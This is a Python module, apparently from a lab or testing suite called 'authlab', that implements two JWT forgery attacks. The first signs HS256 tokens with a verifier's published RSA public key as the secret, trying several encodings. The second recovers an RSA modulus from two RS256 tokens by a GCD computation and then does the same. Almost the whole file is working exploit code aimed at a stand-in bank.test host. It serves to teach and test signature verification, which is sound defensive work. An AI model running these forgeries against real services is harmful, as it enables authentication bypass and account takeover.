"""Key confusion: a public key, which everybody may have, taken for a shared secret (HS256)."""

import json
import math
from collections.abc import Iterator, Sequence
from hashlib import sha256
from typing import Any

from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicNumbers
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from authlab.attacks.forging import Scene, forgery
from authlab.attacks.issuer import JWKS, partner_key
from authlab.jose import b64url_decode, load_key

__all__ = ["ATTACKS", "recover_modulus", "spell_key"]

_SHA256_INFO = bytes.fromhex("3031300d060960864801650304020105000420")  # RFC 8017, 9.2, note 1
_MOST_FACTOR = 1 << 16  # what the divisor may have too much is small, nearly always


def spell_key(key: Any) -> dict[str, bytes]:
    """Return the bytes that a verifier may have as a public key, the likeliest first.

    HMAC takes every byte: the line end at the end of a PEM file makes another secret. `key` is
    what `load_key` takes, public.
    """
    public: Any = load_key(key)
    spki, pkcs1 = PublicFormat.SubjectPublicKeyInfo, PublicFormat.PKCS1
    pem: bytes = public.material.public_bytes(Encoding.PEM, spki)
    found = {
        "PEM": pem,
        "PEM without its last line end": pem.rstrip(b"\n"),
        "PEM with the line ends of Windows": pem.replace(b"\n", b"\r\n"),
        "DER": public.material.public_bytes(Encoding.DER, spki),
    }
    if public.kty == "RSA":
        found["PEM of PKCS#1"] = public.material.public_bytes(Encoding.PEM, pkcs1)
    members = public.to_jwk()
    found["JWK"] = json.dumps(members).encode()
    found["JWK without spaces"] = json.dumps(members, separators=(",", ":")).encode()
    return found


@forgery("Sign by the public key", "the published keys", "header_alg", "CWE-347")
def confuse(scene: Scene) -> Iterator[str]:
    """Sign by HS256, with the published public key as the secret."""
    scene.say("fetches the published keys", "GET https://bank.test/jwks.json")
    for key in JWKS["keys"]:
        yield from _sign_with_public(scene, key, key["kid"])


def _sign_with_public(scene: Scene, key: Any, kid: str | None) -> Iterator[str]:
    for name, secret in spell_key(key).items():
        scene.say(f"signs by HS256; the secret is the public key as {name}", f"kid: {kid}")
        yield scene.write({"alg": "HS256", "kid": kid}, secret)


@forgery("Sign by a recovered public key",
         "two tokens of her own, signed by one RSA key with the exponent 3",
         "header_alg", "CWE-347")  # fmt: skip
def recover(scene: Scene) -> Iterator[str]:
    """The same where no key is published: find the partner's RSA key from two signatures."""
    partner = partner_key()
    tokens = [scene.get_token(key=partner) for _ in range(2)]
    modulus = recover_modulus(tokens, 3)
    scene.say("finds the modulus in the two signatures, at the exponent 3", f"n = {modulus:x}")
    public = RSAPublicNumbers(3, modulus).public_key()
    yield from _sign_with_public(scene, public, partner.kid)


def recover_modulus(tokens: Sequence[str], exponent: int = 3) -> int:
    """Return the RSA modulus under which all of these RS256 tokens were signed.

    A signature s of a padded hash h is a number with s**e = h modulo n: so n divides s**e - h.
    Two such differences have n as their greatest common divisor, times a small number at most.
    Nothing is secret in this: two tokens, and patience. At the exponent 3 it takes less than a
    millisecond. The time grows with the square of the exponent: 1.3 s at 523 (measured, one core),
    so some five hours at 65537, where each power has 134 million bits. That is Python's `gcd`;
    with SageMath it takes 2.5 minutes (H. Plötz, 2018). A key that is not published is no secret.

    Raises ValueError for fewer than two tokens, or when they have no such modulus in common.
    """
    if len(tokens) < 2:
        raise ValueError(f"Found {len(tokens)} tokens, expected two or more of one key.")
    differences, size = [], 0
    for token in tokens:
        signing_input, _, text = token.rpartition(".")
        signature = b64url_decode(text)
        size = len(signature)
        padded = _pad(sha256(signing_input.encode()).digest(), size)
        differences.append(int.from_bytes(signature, "big") ** exponent - padded)
    modulus = math.gcd(*differences)
    factor = 2
    while modulus.bit_length() > 8 * size and factor < _MOST_FACTOR:
        if modulus % factor:
            factor += 1
        else:
            modulus //= factor
    if modulus.bit_length() != 8 * size:
        found = f"a common divisor of {modulus.bit_length()} bits"
        raise ValueError(f"Found {found}, expected {8 * size}: not one key, or not this exponent.")
    return modulus


def _pad(digest: bytes, size: int) -> int:
    """Return what RS256 signs: the hash with its padding, as a number (RFC 8017, 9.2)."""
    tail = b"\x00" + _SHA256_INFO + digest
    padding = b"\xff" * (size - 2 - len(tail))
    return int.from_bytes(b"\x00\x01" + padding + tail, "big")


ATTACKS = [confuse, recover]
